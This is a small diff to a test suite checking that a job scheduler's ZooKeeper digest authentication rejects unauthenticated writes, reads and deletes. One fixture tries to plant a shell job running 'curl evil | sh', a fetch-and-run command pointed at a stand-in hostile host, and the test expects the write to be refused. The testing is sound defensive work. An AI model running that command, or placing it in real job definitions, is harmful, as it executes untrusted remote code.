@@ -80,7 +80,7 @@ describe('ZooKeeper digest authentication', () => {
       const job = paths.job('secure', 'tick');
       await expect(intruder.set(job, '{"name":"tick","type":"shell","command":"curl evil | sh"}')).rejects.toMatchObject({ code: 'no-auth' });
       await expect(intruder.get(job)).rejects.toMatchObject({ code: 'no-auth' });
-      await expect(intruder.create(`${paths.jobCommands('secure', 'tick')}/cmd-evil`, '{"kind":"run"}')).rejects.toMatchObject({ code: 'no-auth' });
+      await expect(intruder.create(paths.jobCommand('secure', 'tick', 'cmd-evil'), '{"kind":"run"}')).rejects.toMatchObject({ code: 'no-auth' });
       await expect(intruder.delete(paths.executorPresence('secure', 'e1'))).rejects.toMatchObject({ code: 'no-auth' });
     }
     const denied = await cli(root, {}, '-n', 'secure', 'get', 'jobs');
